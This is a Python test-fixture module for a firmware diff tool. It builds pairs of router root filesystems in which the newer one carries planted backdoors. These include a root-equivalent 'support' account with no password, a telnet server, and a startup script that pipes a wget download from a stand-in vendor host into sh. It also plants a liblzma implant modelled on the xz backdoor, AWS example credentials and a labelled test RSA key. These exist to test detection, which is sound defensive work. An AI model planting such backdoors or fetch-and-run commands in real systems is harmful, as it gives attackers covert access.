"""Pairs of images for ``veracity diff``: the fixture rootfs (:func:`veracity.testing.fixtures.build_rootfs`)
built twice, the second one changed by an ``edit`` function, each packed with mksquashfs (or tar).

Edits (each takes the rootfs directory of the NEW version):

- :func:`restamp` - what a rebuild of the same sources changes: timestamps, a build-id, revision numbers
  in banners and version strings; nothing of security interest;
- :func:`kitchen_sink` - one change of every kind the diff reports (accounts, services, endpoints, keys,
  components, findings, executables, startup scripts, renamed files, permissions);
- :func:`implant` - the realistic case: a compression library (the host's liblzma) that gains ``system`` and
  ``dlsym`` imports, a ``/bin/sh`` string and a URL, plus a new endpoint in a configuration file.

Libraries and programs are modified with lief (a dependency of veracity); nothing is compiled or run.
"""

from __future__ import annotations

import base64
import os
import shutil
import struct
import tarfile
from collections.abc import Callable
from pathlib import Path

from . import fixtures
from .fixtures import EPOCH, FixtureBuildError, build_rootfs

__all__ = ["IMPLANT_URL", "NEW_ENDPOINT", "build_pair", "implant", "kitchen_sink", "restamp", "restamp_base",
           "tool_missing", "with_liblzma", "with_program_version"]

IMPLANT_URL = "https://cdn.xz-mirror.example.ru/p.bin"
"""The URL the implanted library carries."""
NEW_ENDPOINT = "https://collect.example-metrics.de/v1/device"
"""The endpoint the implanted version adds to its cloud configuration."""
LIBLZMA = "usr/lib/liblzma.so.5"

# THIS IS A TEST KEY, generated for veracity's diff fixtures with `openssl genrsa -traditional 2048`.
# It protects nothing: the NEW version of the kitchen-sink pair ships it as its rotated TLS key.
_ROTATED_TLS_KEY = """\
-----BEGIN RSA PRIVATE KEY-----
MIIEoQIBAAKCAQEAmWc6W2HPmn36a5cBRQB5NI+rTNd7w4s2rqlRlv7CTSPNkE7T
hCINvM/1UP0kPBV9UO72Eqx1T2EoF86xGbsxtFtqndBjcZFpiLToJ1MSlIOaO9/1
PIP+JD4noT3XW8SaKcDcrcJMN+S0q9TxxUihWgQbFbRWGq+Giz5kufW89QpK7VUW
/yKM1bz0Kp7dEn2573S5N+4AeTz3HugxfHfXSvem8U+OSByw6yZmUpLqZ9/DNhQz
ymQ0b12S5jBXTwOGmlMKTJSioRL5W1vTGSOebr0htr5FhmKr4jvQ5nDYd2HP6EqM
Ur8eBwkWpb9TLfwcGQzwvSj2g0VGhKkFRwdLKwIDAQABAoH/UmSfc3WVi+UeG6t/
gxA+CX0hBKS4VM7xD97hc7hhpA0W2+t6r/2aY09O87EDRUJFjLLMeDsoxvnoDuF1
PdzNVZHEMf87akQv6r0/898qm5oTvRUNIvPCDLVVk8UjZqayJrrvzGQPi/XLFH/L
W6sm/rI12fKCTNL58NASSc8zLmkD5+DNzjErTQAMRM9+SeIQNs8/eK3hh6pjR0PA
7sCwN2Ky/xnJhUBieB26BqgYTn1tBYvqcvUQTwBPBDuFLo/mw9PAuCjuHY7CtgIC
93+p3Ol3lfkeswck7I+0wYcxSGMAV9mgbwUwvgz88SAgChdSnJXKvm7AUSn1cGDa
IMHxAoGBAMqH9MblrqKuWKuBclgS9GPPPqMBBNA4Gu1I6mlWf34NUzZf/Sw1CVY5
/IiHxSEJqblKXLmwu7DoyIavyc/Vyta2xWJLfipq9jmxNXQl/qlI+iQibMrVcoum
lKULJaqlzQVNR/nkCCGy4SpgBIVGtRYzEe3FUmVeXK6ZVygllD6RAoGBAMHm+Jdw
COhOLLYB37JtnSlC5DzKIVFgsnuC20dQx7dR/Bo2dxdgRN54YGzjOYv/Ga29OP1d
2dQFEKPq65SqaAIhf6jZOKKFQyWQg/p1c9edtVfhsekl9RJb2iEGnEOU7LLnnwVW
PM45pDxYIvD4j+QCFFNYPAuPMLDcuoPAbkP7AoGAVu2NyUTR9O9CDbLMwjK4hJJy
PwJz7271V71BJ59Br3fGrIL8plnJPSI8Wtlzad+84lOhgu3xUVhIoU6YH0WS/x+J
jsv6RfiM4GxIFicsq7ov6wx/h3uf44LHMCOdsiXh3pGx//a46sXdURPPPOkBVprq
6hQUbn/W5fXY69ldTJECgYEAk724JjMQJmkCOj/dQSex+vFj1Emy7z19YQyIpaMQ
OUb3jsV3IlGQx+3ykqTjgR8DYtTtqmerBJhDYJIro9/fVdhOW8n/FB3z1phxZxG9
DUm2Fdr64wmv3Kgt4MIXqIq9e2duS/O0avGSiQQiw3awtGs9L2/oeGpHEEtutdqW
aacCgYBU9hVrNzlXW8dTsvdsQSsf3JVFuqUDnUlobcKOeU6wCkDAbFaWGOZ9Cy/p
HFLbBZrLz+TtRIbYWE8FPfxvvRIedUOuSUmEI/welp58paLA4dAqvsGXhdr0jQz0
SLvYPwyaB3PC1HJW9KFUVwJB5U3DyWq/0D730a6prNE9mtTEzg==
-----END RSA PRIVATE KEY-----
"""

#: md5crypt of a password in no public list (`openssl passwd -1 -salt s3cUr1ty 'Tr0ub4dor&3x!'`).
_STRONGER_ROOT_HASH = "$1$s3cUr1ty$hSJxU2rEnjIuuGbqxJWku."

# An AWS-style access key id of the documentation's own example, and the secret of the same example.
_AWS_CONFIG = "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n" \
              "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"


def _ssh_string(b: bytes) -> bytes:
    return struct.pack(">I", len(b)) + b


def _authorized_key() -> str:
    """An ed25519 public key (fixed bytes: a test key whose private half nobody needs)."""
    blob = _ssh_string(b"ssh-ed25519") + _ssh_string(bytes(range(1, 33)))
    return f"ssh-ed25519 {base64.b64encode(blob).decode()} support@vendor\n"


def _host_liblzma() -> Path | None:
    for p in ("/lib/x86_64-linux-gnu/liblzma.so.5", "/usr/lib/x86_64-linux-gnu/liblzma.so.5",
              "/lib/liblzma.so.5", "/usr/lib/liblzma.so.5"):
        if os.path.isfile(p):
            return Path(os.path.realpath(p))
    return None


def with_liblzma(root: Path) -> None:
    """Add the host's liblzma (a real compression library) as ``/usr/lib/liblzma.so.5``."""
    lib = _host_liblzma()
    if lib is None:
        raise FixtureBuildError("liblzma.so.5 not found on this host")
    dest = root / LIBLZMA
    dest.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(lib, dest)
    os.chmod(dest, 0o755)


def _lief_edit(path: Path, imports: tuple[str, ...] = (), rodata: bytes = b"") -> None:
    """Add undefined (imported) dynamic symbols and a read-only data section to an ELF file, in place."""
    import lief

    lief.logging.disable()
    binary = lief.ELF.parse(str(path))
    if binary is None:
        raise FixtureBuildError(f"lief cannot parse {path}")
    for name in imports:
        sym = lief.ELF.Symbol()
        sym.name = name
        sym.type = lief.ELF.Symbol.TYPE.FUNC
        sym.binding = lief.ELF.Symbol.BINDING.GLOBAL
        sym.shndx = 0
        binary.add_dynamic_symbol(sym)
    if rodata:
        sec = lief.ELF.Section(".rodata.cfg")
        sec.type = lief.ELF.Section.TYPE.PROGBITS
        sec.flags = lief.ELF.Section.FLAGS.ALLOC  # type: ignore[assignment]
        sec.content = list(rodata)
        binary.add(sec, loaded=True)
    mode = path.stat().st_mode & 0o7777
    tmp = path.with_name(path.name + ".lief")
    binary.write(str(tmp))
    os.replace(tmp, path)
    os.chmod(path, mode)


def _edit_text(path: Path, old: str, new: str, count: int = 1) -> None:
    text = path.read_text()
    if old not in text:
        raise FixtureBuildError(f"{path}: {old!r} not found")
    path.write_text(text.replace(old, new, count))


def _patch_bytes(path: Path, old: bytes, new: bytes) -> None:
    assert len(old) == len(new)
    data = path.read_bytes()
    if old not in data:
        raise FixtureBuildError(f"{path}: {old!r} not found")
    mode = path.stat().st_mode & 0o7777
    path.write_bytes(data.replace(old, new))  # writes through the hard link too, as a rebuild would not; fine
    os.chmod(path, mode)


def _build_id(path: Path, fill: int) -> None:
    """Overwrite the GNU build-id of an ELF file (what any rebuild changes)."""
    data = bytearray(path.read_bytes())
    i = data.find(b"GNU\x00", 12, 8192)
    while i >= 12:
        namesz, descsz, kind = struct.unpack_from("<III", data, i - 12)
        if namesz == 4 and kind == 3 and 8 <= descsz <= 64:
            data[i + 4 : i + 4 + descsz] = bytes([fill]) * descsz
            mode = path.stat().st_mode & 0o7777
            path.write_bytes(bytes(data))
            os.chmod(path, mode)
            return
        i = data.find(b"GNU\x00", i + 4, 8192)
    raise FixtureBuildError(f"{path}: no GNU build-id note")


# -- edits --------------------------------------------------------------------------------------------------


def restamp(root: Path) -> None:
    """A rebuild of the same sources: new revision numbers and build dates, a new build-id."""
    _edit_text(root / "etc/banner", "r4711", "r4790")
    _edit_text(root / "etc/openwrt_release", "DISTRIB_REVISION='r4711'", "DISTRIB_REVISION='r4790'")
    _edit_text(root / "etc/openwrt_release", "VendorOS 1.2.3 r4711", "VendorOS 1.2.3 r4790")
    (root / "etc/build_info").write_text("built Thu Jan  2 03:04:05 UTC 2020 by builder@ci-17 (git 3f2a9c1d)\n")
    _build_id(root / "usr/sbin/nvram", 0x5A)
    _patch_bytes(root / "bin/busybox", b"deb12u1+b1)", b"deb12u1+b7)")


def restamp_base(root: Path) -> None:
    """The OLD side of :func:`restamp`: the same build-info file with the old build's stamp."""
    (root / "etc/build_info").write_text("built Wed Jan  1 00:00:00 UTC 2020 by builder@ci-9 (git 8e71b0aa)\n")


def kitchen_sink(root: Path) -> None:
    """One change of every kind."""
    etc = root / "etc"
    # accounts: a new superuser with no password, a service account that can now log in, one removed, root's
    # default password replaced by a strong one (the hash changes)
    passwd = (etc / "passwd").read_text()
    passwd = passwd.replace("ftp:*:55:55:ftp:/home/ftp:/bin/false", "ftp:x:55:55:ftp:/home/ftp:/bin/sh")
    passwd = passwd.replace("network:*:101:101:network:/var:/bin/false\n", "")
    passwd += "support:x:0:0:support:/root:/bin/sh\n"
    (etc / "passwd").write_text(passwd)
    shadow = (etc / "shadow").read_text()
    shadow = shadow.replace(fixtures._ROOT_HASH, _STRONGER_ROOT_HASH)
    shadow = shadow.replace("ftp:*:0:0:99999:7:::", "ftp:$1$ftpsalt$7IPuFu6us0RUlP8It3FKI/:18262:0:99999:7:::")
    shadow = shadow.replace("network:*:0:0:99999:7:::\n", "")
    shadow += "support::18262:0:99999:7:::\n"
    (etc / "shadow").write_text(shadow)
    # services: dropbear on a second port, a new telnet server on 2323, a new startup script
    rcs = etc / "init.d/rcS"
    _edit_text(rcs, "/usr/sbin/dropbear -p 22 -r", "/usr/sbin/dropbear -p 22 -p 2222 -r")
    _edit_text(rcs, "udhcpc -b", "/usr/sbin/telnetd -p 2323 -l /bin/login\n\nudhcpc -b")
    (etc / "init.d/S99support").write_text("#!/bin/sh\n# Remote support channel.\n"
                                           "[ \"$1\" = start ] && wget -q -O - http://support.example-vendor.cn/s.sh"
                                           " | sh &\n")
    os.chmod(etc / "init.d/S99support", 0o755)
    # endpoints: one added in another country, one removed
    system = etc / "config/system"
    _edit_text(system, "\tlist server 'time.example-vendor.cn'\n", "\tlist server 'ntp.example-time.de'\n")
    # keys: the TLS key rotated, the dropbear host key kept, an authorized key added
    (etc / "ssl/private/httpd.key").write_text(_ROTATED_TLS_KEY)
    (root / "root/.ssh").mkdir(parents=True, exist_ok=True)
    (root / "root/.ssh/authorized_keys").write_text(_authorized_key())
    # components: the release goes from 1.2.3 to 1.2.4
    _edit_text(etc / "openwrt_release", "DISTRIB_RELEASE='1.2.3'", "DISTRIB_RELEASE='1.2.4'")
    _edit_text(etc / "openwrt_release", "VendorOS 1.2.3 r4711", "VendorOS 1.2.4 r4711")
    # findings: a cloud key written into the image (new); the cloud password removed (resolved)
    (etc / "aws").mkdir(exist_ok=True)
    (etc / "aws/credentials").write_text(_AWS_CONFIG)
    _edit_text(system, "\toption password 'vendor123'\n", "")
    # executables: nvram gains network capability and command execution
    _lief_edit(root / "usr/sbin/nvram", ("socket", "connect", "execve"),
               b"\x00/bin/sh\x00-c\x00nvram-sync\x00")
    # files: a page renamed (same content), dropbear made setuid root
    os.rename(root / "www/index.html", root / "www/index.htm")
    os.chmod(root / "usr/sbin/dropbear", 0o4755)


def implant(root: Path) -> None:
    """The realistic case: an implant in liblzma and a new endpoint in the cloud configuration."""
    _lief_edit(root / LIBLZMA, ("system", "dlsym"),
               b"\x00/bin/sh\x00" + IMPLANT_URL.encode() + b"\x00RSA_public_decrypt\x00")
    _edit_text(root / "etc/config/system", "\toption upgrade_url",
               f"\toption report_url '{NEW_ENDPOINT}'\n\toption upgrade_url")


def with_program_version(path: str, banner: str) -> Callable[[Path], None]:
    """An edit that writes a small binary at ``path`` whose only string is ``banner`` (a version string the
    components check recognises, e.g. ``dnsmasq-2.89``)."""

    def edit(root: Path) -> None:
        dest = root / path.lstrip("/")
        dest.parent.mkdir(parents=True, exist_ok=True)
        dest.write_bytes(b"\x00\x01\x02\x03binary\x00" + banner.encode("latin-1") + b"\x00tail\x00")
        os.chmod(dest, 0o755)

    return edit


# -- building pairs -----------------------------------------------------------------------------------------


def _squashfs(root: Path, out: Path, epoch: int) -> Path:
    args = ["mksquashfs", str(root), str(out), "-comp", "gzip", "-b", "131072", "-noappend", "-all-root",
            "-no-xattrs", "-no-progress", "-quiet", "-all-time", str(epoch), "-mkfs-time", str(epoch)]
    fixtures._run(args, epoch_env=False)
    return out


def _tar(root: Path, out: Path, epoch: int) -> Path:
    def norm(ti: tarfile.TarInfo) -> tarfile.TarInfo:
        ti.uid = ti.gid = 0
        ti.uname = ti.gname = "root"
        ti.mtime = epoch
        return ti

    with tarfile.open(out, "w", format=tarfile.GNU_FORMAT) as tar:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames.sort()
            for name in sorted(dirnames + filenames):
                full = Path(dirpath) / name
                tar.add(full, arcname=str(full.relative_to(root)), recursive=False, filter=norm)
    return out


def build_pair(
    dest: Path,
    edit: Callable[[Path], None],
    *,
    base: Callable[[Path], None] | None = None,
    fmt: str = "squashfs",
    new_epoch: int = EPOCH,
) -> tuple[Path, Path]:
    """``(old, new)`` images in ``dest``: the fixture rootfs (plus ``base``), and the same with ``edit``
    applied; packed with ``fmt`` (``squashfs`` or ``tar``), the new one stamped ``new_epoch``."""
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    pack = {"squashfs": _squashfs, "tar": _tar}[fmt]
    suffix = ".squashfs" if fmt == "squashfs" else ".tar"
    out = []
    for label, change, epoch in (("old", None, EPOCH), ("new", edit, new_epoch)):
        root = dest / f"{label}-rootfs"
        if root.exists():
            shutil.rmtree(root)
        build_rootfs(root)
        if base is not None:
            base(root)
        if change is not None:
            change(root)
        fixtures._fix_times(root, epoch)
        out.append(pack(root, dest / f"{label}{suffix}", epoch))
        shutil.rmtree(root)
    return out[0], out[1]


def tool_missing(fmt: str = "squashfs") -> str | None:
    """What is missing on this host to build a pair (None when nothing is)."""
    if fmt == "squashfs" and shutil.which("mksquashfs", path=os.environ.get("PATH", "") + ":/usr/sbin:/sbin") is None:
        return "mksquashfs (apt-get install squashfs-tools)"
    for tool, hint in (("busybox", "busybox-static"), ("dropbear", "dropbear-bin")):
        if getattr(fixtures, f"_{tool}")() is None:
            return f"{tool} ({hint})"
    if _host_liblzma() is None:
        return "liblzma.so.5"
    return None

